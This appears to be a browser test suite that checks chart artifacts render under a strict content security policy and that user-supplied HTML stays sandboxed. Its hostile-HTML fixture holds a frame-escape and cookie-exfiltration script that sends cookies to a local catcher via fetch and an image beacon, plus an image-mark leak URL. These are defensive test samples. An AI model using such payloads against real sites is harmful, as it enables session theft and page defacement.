"""Chart artifacts draw in a real browser under the strict CSP, and draw again when changed."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar

import pytest
from playwright.sync_api import Page, expect

from tests.servers import ServerProcess
from tests.ui.seed import Seed, unique

pytestmark = pytest.mark.browser

# Collects CSP violations from the first script the page runs (before any of ours).
WATCH_CSP = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__csp.push(e.violatedDirective + " " + e.blockedURI);
});
"""


def bar_spec(values: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "$schema": "https://vega.github.io/schema/vega-lite/v6.json",
        "title": "Loss by epoch",
        "data": {"values": values},
        "mark": "bar",
        # An expression (run by the interpreter, since eval is refused) and a calculated field.
        "transform": [{"calculate": "datum.loss * 2", "as": "double"}],
        "encoding": {
            "x": {"field": "epoch", "type": "ordinal"},
            "y": {"field": "double", "type": "quantitative"},
        },
    }


def _points(n: int) -> list[dict[str, Any]]:
    return [{"epoch": i, "loss": 1 / (i + 1)} for i in range(n)]


def _bars(page: Page) -> Any:
    return page.locator("figure[data-chart] svg.marks .mark-rect path")


def _csp(page: Page) -> list[str]:
    violations: list[str] = page.evaluate("window.__csp")
    return violations


def test_chart_draws_without_csp_violations_and_redraws_on_change(page: Page, seed: Seed) -> None:
    page.add_init_script(WATCH_CSP)
    # No change stream here (refused as a server at its limit does), so only this test's
    # own event and the chart's poll can draw it again.
    page.route("**/api/ui/stream*", lambda route: route.fulfill(status=204))
    key = unique("chart")
    created = seed.artifact(key=key, type="chart", data=bar_spec(_points(3)))

    page.goto(f"/artifacts/{created['id']}")
    expect(page.locator("figure[data-chart]")).to_have_attribute("data-chart-state", "drawn")
    expect(_bars(page)).to_have_count(3)
    expect(page.locator("figure[data-chart] svg.marks")).to_contain_text("Loss by epoch")
    # The Vega scripts load on this page only from this server.
    scripts = page.evaluate("[...document.scripts].map(s => s.src).filter(Boolean)")
    assert any(s.split("?")[0].endswith("/static/vendor/vega/vega.min.js") for s in scripts)
    assert all(s.startswith(page.url.split("/artifacts")[0]) for s in scripts)

    # Updated in place while the page is open: the change event draws it again at once.
    seed.patch(created["id"], data=bar_spec(_points(5)))
    page.evaluate(
        "id => document.dispatchEvent("
        "new CustomEvent('runfolio:artifact-changed', {detail: {id: id}}))",
        created["id"],
    )
    expect(_bars(page)).to_have_count(5)

    # Without the event, the slow poll (5 s while visible) picks the change up too.
    seed.patch(created["id"], data=bar_spec(_points(2)))
    expect(_bars(page)).to_have_count(2, timeout=8_000)
    assert page.locator("figure[data-chart]").get_attribute("data-chart-draws") == "3"
    assert _csp(page) == []


def test_pages_without_a_chart_do_not_load_vega(page: Page, seed: Seed) -> None:
    key = unique("not-chart")
    seed.artifact(key=key, type="markdown", data="# plain")
    page.goto(f"/artifacts/key/{key}")
    expect(page.locator(".artifact-body h1")).to_have_text("plain")
    page.wait_for_load_state("load")
    assert page.evaluate("typeof window.vega") == "undefined"
    assert page.locator("script[src*='vendor/vega']").count() == 0
    loaded = page.evaluate("performance.getEntriesByType('resource').map(e => e.name)")
    assert not [u for u in loaded if "vendor/vega" in u]


def test_charts_that_arrive_while_the_page_is_open_are_drawn(page: Page, seed: Seed) -> None:
    """A run page that showed no chart, and a key page whose chart gets a new version:
    the live updates bring the new charts in, and they draw (Vega loaded on demand)."""
    page.add_init_script(WATCH_CSP)
    run = seed.flow_run("chart-flow", name=unique("arriving"))
    seed.artifact(key=unique("md"), type="markdown", data="# first", flow_run_id=run["id"])
    page.goto(f"/runs/{run['id']}")
    expect(page.locator(".artifact-body h1")).to_have_text("first")
    seed.artifact(
        key=unique("late"), type="chart", data=bar_spec(_points(4)), flow_run_id=run["id"]
    )
    figure = page.locator("figure[data-chart]")
    expect(figure).to_have_attribute("data-chart-state", "drawn", timeout=8_000)
    expect(figure.locator("svg.marks .mark-rect path")).to_have_count(4)

    key = unique("versions")
    seed.artifact(key=key, type="chart", data=bar_spec(_points(2)))
    page.goto(f"/artifacts/key/{key}")
    expect(_bars(page)).to_have_count(2)
    seed.artifact(key=key, type="chart", data=bar_spec(_points(7)))  # a new version
    expect(_bars(page)).to_have_count(7, timeout=8_000)
    assert _csp(page) == []


def test_two_charts_on_a_run_page_load_vega_once(page: Page, seed: Seed) -> None:
    page.add_init_script(WATCH_CSP)
    run = seed.flow_run("chart-flow", name=unique("chart-run"))
    seed.artifact(key=unique("c1"), type="chart", data=bar_spec(_points(4)), flow_run_id=run["id"])
    seed.artifact(key=unique("c2"), type="chart", data=bar_spec(_points(6)), flow_run_id=run["id"])
    page.goto(f"/runs/{run['id']}")
    charts = page.locator("figure[data-chart]")
    expect(charts).to_have_count(2)
    for chart in charts.all():
        expect(chart).to_have_attribute("data-chart-state", "drawn")
    counts = [c.locator("svg.marks .mark-rect path").count() for c in charts.all()]
    assert sorted(counts) == [4, 6]
    # Vega loaded once though each chart's renderer names the script.
    assert (
        page.evaluate(
            "performance.getEntriesByType('resource')"
            ".filter(e => e.name.includes('vega.min.js')).length"
        )
        == 1
    )
    assert _csp(page) == []


def test_a_chart_never_fetches_a_url(page: Page, seed: Seed, problems: list[str]) -> None:
    """Specs draw from inline data only: a data URL (here this server's own API, which the
    viewer's cookie could read) and image marks are refused, and nothing is requested."""
    requested: list[str] = []
    page.on("request", lambda r: requested.append(r.url))
    spec = {
        "data": {"url": "/api/ui/artifacts"},
        "mark": "point",
        "encoding": {"x": {"field": "a", "type": "quantitative"}},
    }
    created = seed.artifact(key=unique("chart-url"), type="chart", data=spec)
    image = {
        "data": {"values": [{"u": "https://example.invalid/leak.png"}]},
        "mark": "image",
        "encoding": {"url": {"field": "u", "type": "nominal"}},
    }
    image_chart = seed.artifact(key=unique("chart-img"), type="chart", data=image)
    page.goto(f"/artifacts/{created['id']}")
    figure = page.locator("figure[data-chart]")
    expect(figure.locator("[data-chart-refused]")).to_contain_text("inline data only")
    expect(figure.locator("svg.marks .mark-symbol path")).to_have_count(0)
    page.goto(f"/artifacts/{image_chart['id']}")
    figure = page.locator("figure[data-chart]")
    expect(figure.locator("[data-chart-refused]")).to_contain_text("example.invalid")
    assert not [
        u for u in requested if "/api/ui/artifacts?" in u or u.endswith("/api/ui/artifacts")
    ]
    assert not [u for u in requested if "example.invalid" in u]
    problems[:] = [p for p in problems if "inline data only" not in p]  # Vega logs the refusal


# -- HTML artifacts ---------------------------------------------------------------------


class _Catcher(BaseHTTPRequestHandler):
    """A loopback endpoint counting every request that reaches it."""

    hits: ClassVar[list[str]] = []

    def _hit(self) -> None:
        self.hits.append(f"{self.command} {self.path} cookie={self.headers.get('Cookie')}")
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.end_headers()
        self.wfile.write(b"caught")

    do_GET = do_POST = _hit

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def catcher() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Catcher)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def hostile_html(to: str) -> str:
    """Every way out of the frame we know of; each outcome is written into the frame's
    own page, where the test reads it (a script that ran proves scripts do run)."""
    return f"""<!doctype html><html><body><h1>report</h1><div id="log"></div>
<script>
function note(name, value) {{
  var p = document.createElement("p"); p.id = name; p.textContent = name + ": " + value;
  document.getElementById("log").appendChild(p);
}}
note("ran", "yes");
try {{ parent.document.body.innerHTML = "PWNED"; note("parent", "reached"); }}
catch (e) {{ note("parent", "blocked " + e.name); }}
var cookie;
try {{ cookie = document.cookie; note("cookie", "read [" + cookie + "]"); }}
catch (e) {{ cookie = ""; note("cookie", "blocked " + e.name); }}
try {{ localStorage.setItem("x", "1"); note("storage", "reached"); }}
catch (e) {{ note("storage", "blocked " + e.name); }}
fetch("{to}/fetch?c=" + encodeURIComponent(cookie))
  .then(function () {{ note("fetch", "reached"); }}, function () {{ note("fetch", "blocked"); }});
new Image().src = "{to}/img?c=" + encodeURIComponent(cookie);
var w = null;
try {{ w = window.open("{to}/open"); }} catch (e) {{}}
note("open", w ? "opened" : "blocked");
try {{ top.location = "{to}/top"; }} catch (e) {{ note("top", "blocked " + e.name); }}
</script>
<form id="f" action="{to}/form" method="post" target="_top"><input name="x" value="1"></form>
<script>try {{ document.getElementById("f").submit(); }} catch (e) {{}}</script>
</body></html>"""


def test_hostile_html_stays_in_its_frame(
    page: Page, seed: Seed, catcher: str, problems: list[str], ui_server: ServerProcess
) -> None:
    _Catcher.hits.clear()
    # A cookie a page script could read, to show the frame cannot (the session cookie is
    # HttpOnly as well).
    page.context.add_cookies([{"name": "visible", "value": "secret", "url": ui_server.url}])
    created = seed.artifact(key=unique("hostile-html"), type="html", data=hostile_html(catcher))
    page.goto(f"/artifacts/{created['id']}")
    frame = page.frame_locator(f"iframe[data-html-frame='{created['id']}']")
    expect(frame.locator("#ran")).to_have_text("ran: yes")
    expect(frame.locator("#parent")).to_contain_text("blocked")
    expect(frame.locator("#cookie")).to_contain_text("blocked")
    expect(frame.locator("#storage")).to_contain_text("blocked")
    expect(frame.locator("#open")).to_have_text("open: blocked")
    expect(frame.locator("#fetch")).to_have_text("fetch: blocked")
    page.wait_for_timeout(500)  # time for any navigation, popup or request to happen
    assert page.url.endswith(f"/artifacts/{created['id']}")
    expect(page.locator("h1.key-title")).to_be_visible()  # the parent page is intact
    assert "PWNED" not in page.locator("body").inner_text()
    assert len(page.context.pages) == 1
    assert _Catcher.hits == []
    iframe = page.locator("iframe.html-frame")
    assert iframe.get_attribute("sandbox") == "allow-scripts"
    # The browser logs each refused attempt; nothing else may have gone wrong.
    refusals = ("Content Security Policy", "sandboxed", "allow-popups", "allow-forms")
    assert problems and all(any(r in p for r in refusals) for p in problems), problems
    problems.clear()


def test_html_frame_opened_in_a_tab_of_its_own_is_still_sandboxed(
    page: Page, seed: Seed, ui_server: ServerProcess, problems: list[str]
) -> None:
    page.context.add_cookies([{"name": "visible", "value": "secret", "url": ui_server.url}])
    doc = "<p id='p'>hi</p><script>document.getElementById('p').textContent = 'ran'</script>"
    created = seed.artifact(type="html", data=doc)
    page.goto(f"/artifacts/{created['id']}/frame")
    expect(page.locator("#p")).to_have_text("ran")
    assert page.evaluate("window.origin") == "null"  # an opaque origin, not the server's
    cookie = page.evaluate("() => { try { return document.cookie; } catch (e) { return e.name; } }")
    assert cookie == "SecurityError"
    status = page.evaluate(
        "() => fetch('/api/ui/artifacts').then(r => 'read ' + r.status, e => 'refused')"
    )
    assert status == "refused"  # connect-src 'none', and no cookie to send anyway
    assert all("Content Security Policy" in p for p in problems), problems
    problems.clear()  # the refused fetch is logged
